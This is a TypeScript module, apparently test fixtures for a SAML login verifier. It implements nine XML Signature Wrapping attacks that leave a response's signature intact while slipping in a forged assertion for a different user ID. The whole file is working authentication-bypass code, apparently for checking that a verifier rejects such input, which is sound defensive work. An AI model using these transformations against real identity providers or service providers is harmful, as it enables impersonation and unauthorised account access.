/** Pieces of a signed response, as text. */
function piecesOf(xml: string) {
  const cut = (pattern: RegExp, text = xml) => pattern.exec(text)?.[0] ?? '';
  const assertion = cut(/<saml:Assertion .*<\/saml:Assertion>/s);
  const ownSignature = cut(/<ds:Signature .*?<\/ds:Signature>/s, assertion);
  const responseSignature = cut(/<ds:Signature .*?<\/ds:Signature>/s, xml.replace(assertion, ''));
  const bare = assertion.replace(ownSignature, '');
  return { assertion, ownSignature, responseSignature, bare };
}

/** The same statement about somebody else, under an id of its own. */
const forged = (text: string): string =>
  text.replaceAll('u-ulipy-owner', 'u-meridian-staff').replaceAll(/ ID="([^"]+)"/g, ' ID="$1-forged"');

const around = (inner: string): string =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inner}</ds:Object>`;

/** The known ways to leave a signature intact and have something else read (Somorovsky and others, 2012). */
export const wrappings: Record<string, (xml: string) => string> = {
  'the signed response inside the signature of a forged one': (xml) => {
    const { responseSignature } = piecesOf(xml);
    const kept = xml.replace(responseSignature, '');
    return forged(kept).replace(
      '<samlp:Status>',
      `${responseSignature.replace('</ds:Signature>', `${around(kept)}</ds:Signature>`)}<samlp:Status>`,
    );
  },
  'the signed response beside its signature in a forged one': (xml) => {
    const { responseSignature } = piecesOf(xml);
    const kept = xml.replace(responseSignature, '');
    return forged(kept).replace('<samlp:Status>', `${responseSignature}${kept}<samlp:Status>`);
  },
  'a forged assertion before the signed one': (xml) => {
    const { assertion, bare } = piecesOf(xml);
    return xml.replace(assertion, `${forged(bare)}${assertion}`);
  },
  'a forged assertion behind the signed one': (xml) => {
    const { assertion, bare } = piecesOf(xml);
    return xml.replace(assertion, `${assertion}${forged(bare)}`);
  },
  'the signed assertion inside a forged one': (xml) => {
    const { assertion, bare } = piecesOf(xml);
    return xml.replace(assertion, forged(bare).replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
  },
  'a forged assertion with the signature, the signed one behind it': (xml) => {
    const { assertion, ownSignature, bare } = piecesOf(xml);
    const wrapped = forged(bare).replace('<saml:Subject>', `${ownSignature}<saml:Subject>`);
    return xml.replace(assertion, `${wrapped}${bare}`);
  },
  'the signed assertion inside the signature of a forged one': (xml) => {
    const { assertion, ownSignature, bare } = piecesOf(xml);
    const signature = ownSignature.replace('</ds:Signature>', `${around(bare)}</ds:Signature>`);
    return xml.replace(assertion, forged(bare).replace('<saml:Subject>', `${signature}<saml:Subject>`));
  },
  'a forged assertion among extensions': (xml) => {
    const { bare } = piecesOf(xml);
    return xml.replace('<samlp:Status>', `<samlp:Extensions>${forged(bare)}</samlp:Extensions><samlp:Status>`);
  },
  'a forged assertion under the id of the signed one': (xml) => {
    const { assertion, bare } = piecesOf(xml);
    return xml.replace(assertion, `${bare.replaceAll('u-ulipy-owner', 'u-meridian-staff')}${assertion}`);
  },
};
